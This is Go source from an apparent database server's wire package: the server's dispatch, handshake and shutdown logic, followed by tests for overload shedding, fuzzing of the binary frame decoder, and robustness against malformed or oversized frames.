				putRequest(req)
				s.inflight.Add(1)
				out <- v2Result{seq: seq, resp: s.shedResponse(shedMsgOverload, ra)}
				continue
			}
			arrival = time.Now()
		}
		s.inflight.Add(1)
		in <- v2Job{seq: seq, req: req, arrival: arrival, quota: quota}
	}
}

// readRequest receives one request under the idle (until the frame
// starts) and read (until it completes) deadlines.
func (s *Server) readRequest(conn net.Conn, req *Request) error {
	if s.draining.Load() {
		return net.ErrClosed
	}
	if s.idleTimeout > 0 {
		_ = conn.SetReadDeadline(time.Now().Add(s.idleTimeout))
	}
	n, err := readFrameHeader(conn)
	if err != nil {
		return err
	}
	if s.readTimeout > 0 {
		_ = conn.SetReadDeadline(time.Now().Add(s.readTimeout))
	}
	return readFramePayload(conn, n, req)
}

// dispatch runs one request, enforcing the query timeout when one is
// configured. The watchdog pattern: the query runs in a goroutine; if
// its context deadline fires first, the client gets an immediate
// timeout error and the overrun execution — which the engine's
// between-stage cancellation checks will abort at its next stage
// boundary — finishes in the background and is discarded. Shutdown's
// WaitGroup tracks the stray so drain still accounts for it.
//
// dispatch takes ownership of req: it returns to the pool once the
// execution — possibly a watchdog-abandoned one still running in the
// background — has finished with it. The returned response is pooled;
// the caller recycles it with putResponse after writing (a response
// abandoned by the watchdog is never pooled — the stray goroutine still
// holds it).
func (s *Server) dispatch(req *Request, app string) *Response {
	if s.queryTimeout <= 0 {
		resp := s.handle(context.Background(), req, app)
		putRequest(req)
		return resp
	}
	ctx, cancel := context.WithTimeout(context.Background(), s.queryTimeout)
	defer cancel()
	ch := make(chan *Response, 1)
	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		resp := s.handle(ctx, req, app)
		putRequest(req)
		ch <- resp
	}()
	select {
	case resp := <-ch:
		return resp
	case <-ctx.Done():
		return &Response{Error: fmt.Sprintf("query timeout after %s", s.queryTimeout)}
	}
}

// handleHello answers one handshake frame and, on success, binds the
// session to the declared application. Version skew is handled the
// conservative way: a client NEWER than the server accepts is refused
// (it may rely on semantics this server lacks) and the session stays
// unbound — but alive, so the client can retry with an older hello or
// proceed as a legacy session in the default domain. The refusal (and
// the ack) advertise the newest version the server accepts, which is
// what lets a pipelining client downgrade automatically. upgrade
// reports that the accepted handshake switches the session to the v2
// binary transport.
func (s *Server) handleHello(h *Hello, app *string) (resp *Response, upgrade bool) {
	if h.Version > s.helloLimit {
		return &Response{
			Error: fmt.Sprintf("hello version %d unsupported (server speaks ≤ %d)",
				h.Version, s.helloLimit),
			Hello: &HelloAck{Version: s.helloLimit},
		}, false
	}
	*app = h.App
	return &Response{Hello: &HelloAck{
		Version: s.helloLimit,
		Domain:  s.resolveDomain(h.App),
	}}, h.Version >= HelloVersion
}

// handleReplHello answers a replication handshake. The refusal paths
// mirror handleHello's version refusal — error text plus an ack
// advertising what the server does speak — so a replica always gets a
// diagnosable answer: a v1-only server refuses by version, a current
// server without replication enabled refuses by capability. accepted
// reports that the connection should be handed to the repl handler.
func (s *Server) handleReplHello(h *Hello) (resp *Response, accepted bool) {
	if h.Version > s.helloLimit {
		return &Response{
			Error: fmt.Sprintf("hello version %d unsupported (server speaks ≤ %d)",
				h.Version, s.helloLimit),
			Hello: &HelloAck{Version: s.helloLimit},
		}, false
	}
	if h.Version < HelloVersion {
		return &Response{
			Error: fmt.Sprintf("replication requires protocol version %d (hello declared %d)",
				HelloVersion, h.Version),
			Hello: &HelloAck{Version: s.helloLimit},
		}, false
	}
	if s.replHandler == nil {
		return &Response{
			Error: "replication not enabled on this server",
			Hello: &HelloAck{Version: s.helloLimit},
		}, false
	}
	return &Response{Hello: &HelloAck{Version: s.helloLimit, Repl: true}}, true
}

// handle executes one request against the engine. It is panic-contained:
// a fault that unwinds out of the engine (or a hook whose own
// containment is disabled) becomes a structured error response plus a
// logged incident — one query fails, the server and every other session
// keep going. The response is drawn from the frame pool; result data is
// copied in, never aliased, so recycling the response cannot corrupt
// engine state.
func (s *Server) handle(ctx context.Context, req *Request, app string) (resp *Response) {
	defer func() {
		if r := recover(); r != nil {
			s.panics.Add(1)
			log.Printf("wire: contained panic serving query: %v\n%s", r, debug.Stack())
			resp = &Response{Error: fmt.Sprintf("internal error: query failed: %v", r)}
		}
	}()
	var (
		res *engine.Result
		err error
	)
	if len(req.Args) > 0 {
		args := make([]engine.Value, len(req.Args))
		for i, a := range req.Args {
			args[i] = FromWire(a)
		}
		res, err = s.db.ExecAppContext(ctx, app, req.Query, args...)
	} else {
		res, err = s.db.ExecAppContext(ctx, app, req.Query)
	}
	resp = getResponse()
	if err != nil {
		resp.Error = err.Error()
		resp.Blocked = errors.Is(err, engine.ErrQueryBlocked)
		return resp
	}
	resp.Columns = append(resp.Columns[:0], res.Columns...)
	resp.Affected = res.Affected
	resp.LastInsertID = res.LastInsertID
	for _, row := range res.Rows {
		wr := make([]WireValue, len(row))
		for j, v := range row {
			wr[j] = ToWire(v)
		}
		resp.Rows = append(resp.Rows, wr)
	}
	return resp
}

// forget drops conn from the tracked set and closes it.
func (s *Server) forget(conn net.Conn) {
	s.mu.Lock()
	delete(s.conns, conn)
	s.mu.Unlock()
	_ = conn.Close()
}

func (s *Server) isClosed() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.closed
}

// Panics returns the number of contained serving panics (incidents).
func (s *Server) Panics() int64 { return s.panics.Load() }

// Refused returns the number of connections turned away by admission
// control.
func (s *Server) Refused() int64 { return s.refused.Load() }

// InFlight returns the number of v2 requests currently inside the
// server (queued, executing, or completed but unwritten), summed over
// all pipelined sessions.
func (s *Server) InFlight() int64 { return s.inflight.Load() }

// Sheds returns the number of typed shed responses written (admission,
// quota, and drain rejections), summed over all sessions.
func (s *Server) Sheds() int64 { return s.shed.Load() }

// Draining reports whether shutdown has begun — with Admission's
// Shedding, the /healthz readiness signal.
func (s *Server) Draining() bool { return s.draining.Load() }

// beginClose transitions to closed exactly once and returns the
// listener plus whether this call did the transition.
func (s *Server) beginClose(interrupt bool) (net.Listener, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil, false
	}
	s.closed = true
	s.draining.Store(true)
	close(s.done)
	if interrupt {
		// Wake sessions blocked waiting for their next request: an
		// immediate read deadline fails the pending (idle) read while a
		// query already executing proceeds to answer and then exits the
		// loop via the draining flag.
		now := time.Now()
		for conn := range s.conns {
			_ = conn.SetReadDeadline(now)
		}
	} else {
		for conn := range s.conns {
			_ = conn.Close()
		}
	}
	return s.listener, true
}

// Shutdown stops the server gracefully: stop accepting, let in-flight
// queries finish and answer, then — if ctx expires first — force-close
// whatever is left. Idle sessions are disconnected immediately.
func (s *Server) Shutdown(ctx context.Context) error {
	ln, first := s.beginClose(true)
	if !first {
		return nil
	}
	var lnErr error
	if ln != nil {
		lnErr = ln.Close()
	}
	drained := make(chan struct{})
	go func() {
		s.wg.Wait()
		close(drained)
	}()
	select {
	case <-drained:
		return lnErr
	case <-ctx.Done():
	}
	// Drain deadline passed: force-close surviving connections. Their
	// serving goroutines fail out of the next read/write immediately;
	// abandoned query watchdog strays are given a short grace.
	s.mu.Lock()
	for conn := range s.conns {
		_ = conn.Close()
	}
	s.mu.Unlock()
	select {
	case <-drained:
	case <-time.After(time.Second):
	}
	return ctx.Err()
}

// Close stops the server immediately: stop accepting, drop live
// connections and wait for the serving goroutines to exit.
func (s *Server) Close() error {
	ln, first := s.beginClose(false)
	if !first {
		return nil
	}
	var err error
	if ln != nil {
		err = ln.Close()
	}
	s.wg.Wait()
	return err
}
