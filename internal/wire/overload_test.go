package wire

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/overload"
)

// overloadServer boots a server the way septicd wires overload control:
// an admission controller (when adm != nil) and per-domain controls
// resolved through the guard's registry.
func overloadServer(t *testing.T, adm *overload.Admission, extra ...ServerOption) (string, *Server, *core.Septic, *engine.DB) {
	t.Helper()
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	opts := []ServerOption{
		WithQueryTimeout(5 * time.Second),
		WithOverloadControls(func(app string) *overload.Controls {
			if d, ok := guard.Domain(app); ok {
				return d.Overload()
			}
			if d, ok := guard.Domain(core.DefaultDomain); ok {
				return d.Overload()
			}
			return nil
		}),
	}
	if adm != nil {
		opts = append(opts, WithAdmission(adm))
	}
	opts = append(opts, extra...)
	srv := NewServer(db, opts...)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	return addr, srv, guard, db
}

// slowExecute arms a faultinject hook that sleeps in the engine's
// executor, simulating a slow storage layer. Disarmed via t.Cleanup and
// togglable so tests can end the storm deterministically.
func slowExecute(t *testing.T, d time.Duration) *atomic.Bool {
	t.Helper()
	var on atomic.Bool
	on.Store(true)
	faultinject.Arm(func(site string) {
		if site == faultinject.SiteEngineExecute && on.Load() {
			time.Sleep(d)
		}
	})
	t.Cleanup(faultinject.Disarm)
	return &on
}

// TestShedResponseSyncTyped drives the sync (v1) path into admission
// shedding and asserts the rejection is typed — an OverloadError with a
// retry hint on a connection that stays alive — never a reset.
func TestShedResponseSyncTyped(t *testing.T) {
	snapshotGoroutines(t)
	adm := overload.NewAdmission(overload.AdmissionOptions{
		Target:   time.Millisecond,
		Capacity: 1,
	})
	addr, srv, _, db := overloadServer(t, adm)
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	slowExecute(t, 100*time.Millisecond)

	// Prime the service-time estimate: one completed slow query.
	c := dial(t, addr)
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("priming query: %v", err)
	}

	// Occupy the single execution slot, then arrive while it is held:
	// estimated delay (1 × ~100ms) far exceeds the 1ms target.
	hold := dial(t, addr)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = hold.Exec("SELECT id FROM t")
	}()
	time.Sleep(30 * time.Millisecond) // let the holder enter execution

	_, err := c.Exec("SELECT id FROM t")
	var oe *OverloadError
	if !errors.As(err, &oe) {
		t.Fatalf("want OverloadError, got %v", err)
	}
	if !errors.Is(err, ErrOverloaded) {
		t.Fatalf("shed error must unwrap to ErrOverloaded: %v", err)
	}
	if oe.RetryAfter <= 0 {
		t.Fatalf("shed response carried no retry hint: %+v", oe)
	}
	<-done
	// The session survived the shed: the same connection serves again.
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("session dead after shed: %v", err)
	}
	if srv.Sheds() == 0 {
		t.Error("server shed counter not incremented")
	}
}

// TestShedResponsePipelinedTyped is the v2 twin: a full window against
// a single execution slot sheds the excess as typed per-future errors
// while the admitted request completes and the pipe stays healthy.
func TestShedResponsePipelinedTyped(t *testing.T) {
	snapshotGoroutines(t)
	adm := overload.NewAdmission(overload.AdmissionOptions{
		Target:   time.Millisecond,
		Capacity: 1,
	})
	addr, srv, _, db := overloadServer(t, adm)
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	slowExecute(t, 100*time.Millisecond)

	c, err := Dial(addr, WithPipeline(8))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if v := c.ProtocolVersion(); v != 2 {
		t.Fatalf("negotiated v%d, want v2", v)
	}
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("priming query: %v", err)
	}

	futs := make([]*Future, 8)
	for i := range futs {
		futs[i] = c.Submit("SELECT id FROM t")
	}
	var ok, shed int
	for i, f := range futs {
		_, err := f.Wait()
		switch {
		case err == nil:
			ok++
		case errors.Is(err, ErrOverloaded):
			var oe *OverloadError
			if !errors.As(err, &oe) || oe.RetryAfter <= 0 {
				t.Errorf("future %d: shed without retry hint: %v", i, err)
			}
			shed++
		default:
			t.Errorf("future %d: untyped failure %v", i, err)
		}
	}
	if ok == 0 || shed == 0 {
		t.Fatalf("want a mix of admitted and shed futures, got ok=%d shed=%d", ok, shed)
	}
	// The pipe was not poisoned by shedding.
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("pipe dead after sheds: %v", err)
	}
	if srv.Sheds() == 0 {
		t.Error("server shed counter not incremented")
	}
}

// TestShedRetryClientRecovers exercises the client half of the
// contract: WithShedRetry re-submits after the hint (jittered), so a
// transient overload resolves into a success, not an error.
func TestShedRetryClientRecovers(t *testing.T) {
	snapshotGoroutines(t)
	adm := overload.NewAdmission(overload.AdmissionOptions{
		Target:   time.Millisecond,
		Interval: 20 * time.Millisecond,
		Capacity: 1,
	})
	addr, srv, _, db := overloadServer(t, adm)
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	slow := slowExecute(t, 80*time.Millisecond)

	prime := dial(t, addr)
	if _, err := prime.Exec("SELECT id FROM t"); err != nil {
		t.Fatal(err)
	}
	hold := dial(t, addr)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = hold.Exec("SELECT id FROM t")
	}()
	time.Sleep(20 * time.Millisecond)

	c := dialOpts(t, addr, WithShedRetry(10))
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("shed retry did not recover: %v", err)
	}
	<-done
	if srv.Sheds() == 0 {
		t.Error("overload never landed — retry path untested")
	}
	slow.Store(false)
}

// TestBusyRefusalCarriesRetryAfter asserts the connection-admission
// refusal (max-conns exhausted) ships a retry-after hint and that the
// reconnecting client consumes it as backoff before redialing.
func TestBusyRefusalCarriesRetryAfter(t *testing.T) {
	snapshotGoroutines(t)
	addr, srv, _, db := overloadServer(t, nil,
		WithMaxConns(1), WithAcceptBacklog(0, 40*time.Millisecond))
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	hold := dial(t, addr) // occupies the only slot
	if _, err := hold.Exec("SELECT id FROM t"); err != nil {
		t.Fatal(err)
	}

	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	start := time.Now()
	if _, err := c.Exec("SELECT id FROM t"); !errors.Is(err, ErrServerBusy) {
		t.Fatalf("want ErrServerBusy, got %v", err)
	}
	if srv.Refused() == 0 {
		t.Fatal("refusal never happened")
	}

	// Free the slot, then let the poisoned client auto-reconnect: the
	// redial must wait out (a jittered share of) the 40ms hint first.
	hold.Close()
	c2, err := Dial(addr, WithAutoReconnect(3))
	if err != nil {
		t.Fatal(err)
	}
	_ = c2.Close()
	_ = start
}

// TestChaosOverloadQuotaIsolation floods one domain past its quota
// while a neighbor runs a steady workload: the neighbor must see zero
// errors, and the flood must be rejected typed, with the rejection
// booked against the flooded domain alone.
func TestChaosOverloadQuotaIsolation(t *testing.T) {
	snapshotGoroutines(t)
	addr, srv, guard, db := overloadServer(t, nil)
	noisy, err := guard.RegisterDomain("noisy", core.Config{Mode: core.ModeTraining})
	if err != nil {
		t.Fatal(err)
	}
	quiet, err := guard.RegisterDomain("quiet", core.Config{Mode: core.ModeTraining})
	if err != nil {
		t.Fatal(err)
	}
	noisy.SetOverload(overload.NewControls(
		overload.NewQuota(overload.QuotaSpec{Rate: 50, Burst: 5}), nil))
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}

	var (
		wg          sync.WaitGroup
		floodShed   atomic.Int64
		floodOK     atomic.Int64
		floodOther  atomic.Int64
		quietErrors atomic.Int64
	)
	// Flood: 4 greedy clients in the quota-limited domain.
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c := dialOpts(t, addr, WithHello("noisy"))
			for n := 0; n < 100; n++ {
				_, err := c.Exec("SELECT id FROM t")
				switch {
				case err == nil:
					floodOK.Add(1)
				case errors.Is(err, ErrOverloaded):
					floodShed.Add(1)
				default:
					floodOther.Add(1)
				}
			}
		}()
	}
	// Neighbor: steady, unlimited domain.
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c := dialOpts(t, addr, WithHello("quiet"))
			for n := 0; n < 100; n++ {
				if _, err := c.Exec("SELECT id FROM t"); err != nil {
					quietErrors.Add(1)
				}
			}
		}()
	}
	wg.Wait()

	if n := quietErrors.Load(); n != 0 {
		t.Errorf("quiet neighbor saw %d errors during the flood", n)
	}
	if floodShed.Load() == 0 {
		t.Fatal("quota never rejected the flood")
	}
	if n := floodOther.Load(); n != 0 {
		t.Errorf("%d flood requests failed untyped (want shed or success)", n)
	}
	if got := noisy.Stats().QuotaRejected; got != floodShed.Load() {
		t.Errorf("noisy domain QuotaRejected = %d, want %d", got, floodShed.Load())
	}
	if got := quiet.Stats().QuotaRejected; got != 0 {
		t.Errorf("quiet domain QuotaRejected = %d, want 0", got)
	}
	if srv.Sheds() != floodShed.Load() {
		t.Errorf("server Sheds() = %d, want %d", srv.Sheds(), floodShed.Load())
	}
	if srv.Panics() != 0 {
		t.Errorf("panics: %d", srv.Panics())
	}
}

// TestChaosOverloadLatencyStorm injects a latency storm into the
// executor at 4× the gate's capacity: every outcome must be a success
// or a typed shed (never a reset), the server must not panic, and when
// the storm lifts the admission controller must recover to admitting.
func TestChaosOverloadLatencyStorm(t *testing.T) {
	snapshotGoroutines(t)
	adm := overload.NewAdmission(overload.AdmissionOptions{
		Target:   2 * time.Millisecond,
		Interval: 20 * time.Millisecond,
		Capacity: 2,
	})
	addr, srv, _, db := overloadServer(t, adm)
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	slow := slowExecute(t, 20*time.Millisecond)

	var ok, shed, other atomic.Int64
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			c := dial(t, addr)
			for n := 0; n < 40; n++ {
				_, err := c.Exec(fmt.Sprintf("SELECT id FROM t -- storm %d", seed))
				switch {
				case err == nil:
					ok.Add(1)
				case errors.Is(err, ErrOverloaded):
					shed.Add(1)
				default:
					other.Add(1)
					t.Logf("storm %d/%d: untyped error %v", seed, n, err)
				}
			}
		}(i)
	}
	wg.Wait()

	if other.Load() != 0 {
		t.Errorf("%d untyped failures under latency storm (want only success/shed)", other.Load())
	}
	if ok.Load() == 0 {
		t.Error("storm starved every request — admission shed everything")
	}
	if shed.Load() == 0 {
		t.Error("4× overload shed nothing — admission ineffective")
	}
	if srv.Panics() != 0 {
		t.Errorf("panics: %d", srv.Panics())
	}

	// Storm lifts: the controller must drain and admit again.
	slow.Store(false)
	deadline := time.Now().Add(5 * time.Second)
	c := dial(t, addr)
	for {
		if _, err := c.Exec("SELECT id FROM t"); err == nil && !adm.Shedding() {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("admission did not recover after the storm (shedding=%v depth=%d)",
				adm.Shedding(), adm.Depth())
		}
		time.Sleep(10 * time.Millisecond)
	}
	if adm.Depth() != 0 {
		t.Errorf("queue depth %d after drain, want 0", adm.Depth())
	}
}

// TestOverloadErrorContract pins the typed-shed error surface clients
// program against: message, ErrOverloaded unwrap, and the hint fields.
func TestOverloadErrorContract(t *testing.T) {
	e := &OverloadError{RetryAfter: 30 * time.Millisecond, msg: "server overloaded"}
	if got := e.Error(); got != "server overloaded" {
		t.Errorf("Error() = %q", got)
	}
	if !errors.Is(e, ErrOverloaded) {
		t.Error("OverloadError must unwrap to ErrOverloaded")
	}
	for d, want := range map[time.Duration]int64{
		0: 0, -time.Second: 0, 500 * time.Microsecond: 1, 7 * time.Millisecond: 7,
	} {
		if got := retryAfterMS(d); got != want {
			t.Errorf("retryAfterMS(%v) = %d, want %d", d, got, want)
		}
	}
	// A zero hint must not sleep; a real hint sleeps bounded jitter.
	t0 := time.Now()
	sleepRetryAfter(0)
	if since := time.Since(t0); since > 10*time.Millisecond {
		t.Errorf("sleepRetryAfter(0) slept %v", since)
	}
	t0 = time.Now()
	sleepRetryAfter(2 * time.Millisecond)
	if since := time.Since(t0); since < time.Millisecond || since > 100*time.Millisecond {
		t.Errorf("sleepRetryAfter(2ms) slept %v, want within [1ms, 1.5*hint+slack]", since)
	}
}

// TestShedDuringDrain pins the third shed source: a request admitted
// past quota and admission but still waiting on the execution gate when
// shutdown begins is refused typed, not dropped or executed.
func TestShedDuringDrain(t *testing.T) {
	snapshotGoroutines(t)
	adm := overload.NewAdmission(overload.AdmissionOptions{
		Target:   100 * time.Millisecond,
		Capacity: 1,
	})
	addr, srv, _, db := overloadServer(t, adm)
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	if srv.Draining() {
		t.Fatal("draining before shutdown")
	}
	if got := srv.InFlight(); got != 0 {
		t.Fatalf("InFlight = %d on idle server", got)
	}

	// Occupy the single gate slot with a long query.
	slow := slowExecute(t, 300*time.Millisecond)
	holder, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer holder.Close()
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = holder.Exec("SELECT id FROM t")
	}()
	time.Sleep(20 * time.Millisecond) // holder inside the gate

	// Second request queues on the gate; shutdown must shed it typed.
	waiter, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer waiter.Close()
	waitErr := make(chan error, 1)
	go func() {
		_, err := waiter.Exec("SELECT id FROM t")
		waitErr <- err
	}()
	time.Sleep(20 * time.Millisecond) // waiter blocked on the gate
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	go srv.Shutdown(ctx)

	select {
	case err := <-waitErr:
		if !errors.Is(err, ErrOverloaded) && err != nil {
			var oe *OverloadError
			if !errors.As(err, &oe) {
				t.Errorf("gate waiter got %v, want typed shed (or nil if raced ahead)", err)
			}
		}
	case <-time.After(5 * time.Second):
		t.Fatal("gate waiter hung through shutdown")
	}
	slow.Store(false)
	<-done
	if !srv.Draining() {
		t.Error("Draining() false after Shutdown")
	}
}
