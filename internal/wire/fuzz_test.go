package wire

import (
	"bytes"
	"math"
	"testing"
)

// wireValuesEqual compares values bit-for-bit: reflect.DeepEqual would
// reject a NaN float that round-tripped perfectly.
func wireValuesEqual(a, b []WireValue) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		x, y := a[i], b[i]
		if x.Kind != y.Kind || x.I != y.I || x.S != y.S || x.B != y.B ||
			math.Float64bits(x.F) != math.Float64bits(y.F) {
			return false
		}
	}
	return true
}

// FuzzBinaryDecode holds the v2 codec's decoders to their contract: an
// arbitrary byte stream — torn frames, oversized lengths, lying counts,
// hostile sequence numbers — must never panic the decoder or drive an
// allocation beyond the frame bound, and everything that does decode
// must re-encode and decode back to the same value (round-trip
// stability, which is what the server relies on when it echoes
// sequence numbers and replays bodies through the pools).
func FuzzBinaryDecode(f *testing.F) {
	// Seeds: valid frames of both types, then mutations a hostile or
	// faulty peer would produce.
	reqFrame, _ := appendRequestFrame(nil, 1, &Request{
		Query: "SELECT id FROM t WHERE id = ?",
		Args:  []WireValue{{Kind: kInt, I: 42}, {Kind: kString, S: "x"}},
	})
	respFrame, _ := appendResponseFrame(nil, 1<<40, &Response{
		Columns: []string{"id"},
		Rows:    [][]WireValue{{{Kind: kInt, I: 1}}, {{Kind: kNull}}},
	})
	blockedFrame, _ := appendResponseFrame(nil, 7, &Response{Error: "blocked", Blocked: true})
	f.Add(reqFrame)
	f.Add(respFrame)
	f.Add(blockedFrame)
	f.Add(reqFrame[:len(reqFrame)-4])                  // torn mid-body
	f.Add(reqFrame[:6])                                // torn mid-header
	f.Add([]byte{0xFF, 0xFF, 0xFF, 0xFF, 1, 2, 3})     // oversized length
	f.Add([]byte{0, 0, 0, 3, 1, 2, 3})                 // below fixed overhead
	f.Add([]byte{0, 0, 0, 9, 0, 0, 0, 0, 0, 0, 0, 0, 0xEE}) // unknown type, zero seq
	// Lying collection count: argc claims 2^40 elements.
	lie := append([]byte{}, reqFrame[:4+v2FrameOverhead]...)
	lie = append(lie, appendString(nil, "q")...)
	lie = append(lie, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x01)
	lie[3] = byte(len(lie) - 4)
	f.Add(lie)

	f.Fuzz(func(t *testing.T, data []byte) {
		buf := &encBuf{}
		seq, typ, body, err := readBinaryFrame(bytes.NewReader(data), buf)
		if err != nil {
			return // rejected cleanly — that's a pass
		}
		// Decode as both frame kinds; neither may panic.
		var req Request
		reqErr := decodeRequestBody(body, &req)
		var resp Response
		respErr := decodeResponseBody(body, &resp)

		// Whatever decoded must round-trip: encode → read → decode gives
		// the same value under the same sequence number.
		if typ == frameQuery && reqErr == nil {
			re, err := appendRequestFrame(nil, seq, &req)
			if err != nil {
				t.Fatalf("re-encode decoded request: %v", err)
			}
			seq2, typ2, body2, err := readBinaryFrame(bytes.NewReader(re), &encBuf{})
			if err != nil || seq2 != seq || typ2 != frameQuery {
				t.Fatalf("re-read: seq=%d/%d typ=%#x err=%v", seq2, seq, typ2, err)
			}
			var req2 Request
			if err := decodeRequestBody(body2, &req2); err != nil {
				t.Fatalf("re-decode: %v", err)
			}
			if req2.Query != req.Query || !wireValuesEqual(req2.Args, req.Args) {
				t.Fatalf("request round-trip mismatch: %+v vs %+v", req, req2)
			}
		}
		if typ == frameResult && respErr == nil {
			re, err := appendResponseFrame(nil, seq, &resp)
			if err != nil {
				t.Fatalf("re-encode decoded response: %v", err)
			}
			var resp2 Response
			_, _, body2, err := readBinaryFrame(bytes.NewReader(re), &encBuf{})
			if err != nil {
				t.Fatalf("re-read response: %v", err)
			}
			if err := decodeResponseBody(body2, &resp2); err != nil {
				t.Fatalf("re-decode response: %v", err)
			}
			if resp2.Error != resp.Error || resp2.Blocked != resp.Blocked ||
				resp2.Busy != resp.Busy || resp2.Affected != resp.Affected ||
				resp2.LastInsertID != resp.LastInsertID ||
				len(resp2.Columns) != len(resp.Columns) || len(resp2.Rows) != len(resp.Rows) {
				t.Fatalf("response round-trip mismatch: %+v vs %+v", resp, resp2)
			}
		}
	})
}
