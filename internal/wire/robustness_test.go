package wire

import (
	"encoding/binary"
	"net"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/core"
)

// rawDial opens a plain TCP connection to the server for protocol-level
// failure injection.
func rawDial(t *testing.T, addr string) net.Conn {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	t.Cleanup(func() { _ = conn.Close() })
	return conn
}

func TestServerDropsGarbageFrames(t *testing.T) {
	addr, _, db := startServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (a INT)"); err != nil {
		t.Fatal(err)
	}

	// Send a frame whose payload is not JSON: the server must drop the
	// session without crashing.
	conn := rawDial(t, addr)
	payload := []byte("this is not json")
	var header [4]byte
	binary.BigEndian.PutUint32(header[:], uint32(len(payload)))
	if _, err := conn.Write(header[:]); err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(payload); err != nil {
		t.Fatal(err)
	}
	// The connection should be closed by the server.
	_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 1)
	if _, err := conn.Read(buf); err == nil {
		t.Error("server answered a garbage frame instead of dropping the session")
	}

	// And the server still serves new clients.
	c := dial(t, addr)
	if _, err := c.Exec("SELECT * FROM t"); err != nil {
		t.Errorf("server unhealthy after garbage frame: %v", err)
	}
}

func TestServerRejectsOversizedFrameHeader(t *testing.T) {
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	conn := rawDial(t, addr)
	var header [4]byte
	binary.BigEndian.PutUint32(header[:], 1<<30) // 1 GiB claim
	if _, err := conn.Write(header[:]); err != nil {
		t.Fatal(err)
	}
	_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 1)
	if _, err := conn.Read(buf); err == nil {
		t.Error("server accepted an oversized frame header")
	}
}

func TestServerSurvivesMidFrameDisconnect(t *testing.T) {
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	conn := rawDial(t, addr)
	var header [4]byte
	binary.BigEndian.PutUint32(header[:], 100)
	if _, err := conn.Write(header[:]); err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write([]byte("partial")); err != nil {
		t.Fatal(err)
	}
	_ = conn.Close() // hang up mid-frame

	// New clients still work.
	c := dial(t, addr)
	if _, err := c.Exec("SHOW TABLES"); err != nil {
		t.Errorf("server unhealthy after mid-frame disconnect: %v", err)
	}
}

func TestClientRejectsOversizedResponseClaim(t *testing.T) {
	// A malicious "server" claiming a giant frame must not make the
	// client allocate it.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		conn, err := ln.Accept()
		if err != nil {
			return
		}
		defer conn.Close()
		// Read the request frame, then answer with a huge length claim.
		var header [4]byte
		if _, err := readFullConn(conn, header[:]); err != nil {
			return
		}
		payload := make([]byte, binary.BigEndian.Uint32(header[:]))
		if _, err := readFullConn(conn, payload); err != nil {
			return
		}
		binary.BigEndian.PutUint32(header[:], 1<<31-1)
		_, _ = conn.Write(header[:])
	}()

	c, err := Dial(ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Exec("SELECT 1"); err == nil {
		t.Error("client accepted an oversized response claim")
	}
}

func readFullConn(conn net.Conn, buf []byte) (int, error) {
	total := 0
	for total < len(buf) {
		n, err := conn.Read(buf[total:])
		total += n
		if err != nil {
			return total, err
		}
	}
	return total, nil
}

func TestEmptyQueryOverWire(t *testing.T) {
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	c := dial(t, addr)
	if _, err := c.Exec(""); err == nil {
		t.Error("empty query must return an error, not crash the session")
	}
